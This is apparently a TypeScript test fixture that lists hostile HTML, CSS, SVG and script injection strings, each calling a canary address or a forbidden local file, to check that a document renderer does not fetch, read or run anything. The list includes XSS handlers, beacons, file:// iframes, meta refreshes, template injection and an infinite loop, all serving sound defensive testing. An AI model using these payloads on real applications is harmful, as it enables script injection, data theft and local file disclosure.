/**
 * What somebody could write into a name, an evidence or an organisation to make the renderer fetch, read or run something
 * (RELIABILITY §2 E and F, and what else HTML and CSS offer). `at` is an address of the canary, `file` one of a file that must not be read.
 */
export function hostilePayloads(at: string, file: string): readonly string[] {
  const socket = at.replace('http', 'ws');
  return [
    `<img src="${at}/img">`,
    `<img srcset="${at}/srcset 1x, ${at}/srcset2 2x">`,
    `<picture><source srcset="${at}/source"><img src="${at}/fallback"></picture>`,
    `<style>@import url(${at}/import);</style>`,
    `<style>@font-face{font-family:x;src:url(${at}/font)}h1,p{font-family:x}</style><p>x</p>`,
    `<style>body{background:url(${at}/background)}li{list-style-image:url(${at}/list)}p::before{content:url(${at}/content)}</style><p>x</p>`,
    `<style>@page{background:url(${at}/page);@top-left{content:url(${at}/margin-box)}}</style>`,
    `<p style="background-image:image-set('${at}/set' 1x);cursor:url(${at}/cursor),auto;mask:url(${at}/mask);filter:url(${at}/filter#x)">x</p>`,
    `<link rel=stylesheet href="${at}/sheet"><link rel="shortcut icon" href="${at}/icon"><link rel=manifest href="${at}/manifest">`,
    `<link rel=prefetch href="${at}/prefetch"><link rel=preload as=image href="${at}/preload"><link rel=modulepreload href="${at}/module">`,
    `<link rel=preconnect href="${at}/"><link rel=dns-prefetch href="${at}/"><link rel=prerender href="${at}/prerender"><link rel=next href="${at}/next">`,
    `<iframe src="${at}/frame"></iframe><frameset><frame src="${at}/frame2"></frameset>`,
    `<iframe srcdoc="<img src=${at}/srcdoc><script>fetch('${at}/srcdoc2')</script>"></iframe>`,
    `<object data="${at}/object"></object><embed src="${at}/embed"><applet code="${at}/applet"></applet><portal src="${at}/portal"></portal>`,
    `<video poster="${at}/poster" src="${at}/video" autoplay><track src="${at}/track" default></video><audio src="${at}/audio" preload=auto></audio>`,
    `<svg width=9 height=9><image href="${at}/svg" width=9 height=9 /><image xlink:href="${at}/xlink" /><use href="${at}/use#a" /></svg>`,
    `<svg><filter id=f><feImage href="${at}/feimage" /></filter><rect filter="url(#f)" width=9 height=9 fill="url(${at}/paint#p)" /></svg>`,
    `<svg><style>@import url(${at}/svgstyle);</style><script href="${at}/svgscript"></script><foreignObject><img src="${at}/foreign"></foreignObject></svg>`,
    `<svg onload="fetch('${at}/onload')"><animate onbegin="fetch('${at}/onbegin')" attributeName=x dur=1s /></svg>`,
    `<meta http-equiv=refresh content="0;url=${at}/refresh">`,
    `<meta http-equiv=refresh content="0;url=data:text/html,<img src=${at}/refresh-data>">`,
    `<base href="${at}/"><img src="relative"><a href="relative" ping="${at}/ping">x</a>`,
    `<form action="${at}/form" method=post><input name=a><button autofocus>x</button></form><input type=image src="${at}/input">`,
    `<body background="${at}/body"><table background="${at}/table"><tr><td background="${at}/cell">x</table>`,
    `<script src="${at}/script"></script><script>fetch('${at}/fetch');navigator.sendBeacon('${at}/beacon');new Image().src='${at}/image'</script>`,
    `<script>new WebSocket('${socket}/socket');new EventSource('${at}/events');location='${at}/location';window.open('${at}/open')</script>`,
    `<script>const p=new RTCPeerConnection({iceServers:[{urls:'stun:${at.replace('http://', '')}'}]});p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o))</script>`,
    `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${at}/speculate"]}],"prerender":[{"source":"list","urls":["${at}/speculate2"]}]}</script>`,
    `<script>navigator.serviceWorker.register('${at}/worker');new Worker('${at}/worker2')</script><script type=module>import '${at}/import.js'</script>`,
    `"><img src=x onerror="fetch('${at}/onerror')">`,
    `'-alert(1)-'<img src=x onerror=this.src='${at}/onerror2'>`,
    `<meta http-equiv="Content-Security-Policy" content="default-src *; report-uri ${at}/report"><img src="${at}/loosened">`,
    `<iframe src="${file}"></iframe><embed src="${file}"><object data="${file}"></object>`,
    `<img src="${file}"><link rel=stylesheet href="${file}"><iframe src="view-source:${file}"></iframe><iframe src=" \t\n${file}"></iframe>`,
    `<iframe src="${file.replace('file:///', 'FILE://localhost/')}"></iframe><iframe src="${file.replace('file:///', 'file:/')}"></iframe>`,
    `<meta http-equiv=refresh content="0;url=${file}">`,
    `<script>while(1){}</script><script>document.title='another title';document.body.innerHTML=''</script>`,
    `<title>another title</title><h1>x</h1></body></html><!doctype html><html><head><title>second document</title></head><body>y`,
    '{{constructor.constructor}} {{lookup this "__proto__"}} {{> (lookup . "x")}} {{{raw}}} {{#with this}}{{7}}{{/with}} {{*deco}} ${7*7}',
    '</style></title></textarea></svg></math><noscript><p title="</noscript><img src=x onerror=x>">',
  ];
}
